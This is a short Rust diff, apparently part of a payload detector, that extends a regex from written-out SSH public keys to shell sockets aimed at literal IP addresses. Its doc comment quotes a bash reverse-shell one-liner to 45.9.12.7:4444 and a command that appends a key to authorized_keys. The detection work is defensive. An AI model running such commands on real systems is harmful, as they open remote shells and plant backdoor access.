@@ -1075,16 +1075,20 @@ fn placeholder_payload(
     // and that reading lower-cases the line.
     has_placeholder(text, &armed)
         && !names_a_real_host(text)
-        && !REAL_KEY.is_match(text)
+        && !REAL_TARGET.is_match(text)
         && !(code_block && crate::hostile::names_hostile_host(text))
 }
 
-/// A public key written out (`ssh-ed25519 AAAAC3Nza…`): a line that adds
-/// one has its payload, whatever bracketed blank stands beside it
-/// (`echo 'ssh-ed25519 AAAA… <备注>' >> ~/.ssh/authorized_keys`, fp82).
-static REAL_KEY: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA[0-9A-Za-z+/]{20}")
-        .expect("real key")
+/// A public key written out (`ssh-ed25519 AAAAC3Nza…`) or a shell's
+/// socket to a literal address (`/dev/tcp/45.9.12.7/4444`): the line has
+/// its payload, whatever bracketed blank stands beside it (`echo
+/// 'ssh-ed25519 AAAA… <备注>' >> ~/.ssh/authorized_keys`, `bash -i >&
+/// /dev/tcp/45.9.12.7/4444 0>&1 # <说明>`, fp82).
+static REAL_TARGET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+)\s+AAAA[0-9A-Za-z+/]{20}|/dev/(?:tcp|udp)/\d{1,3}(?:\.\d{1,3}){3}/",
+    )
+    .expect("real target")
 });
 
 /// A reserved example domain (`example.com`, `example.org`,
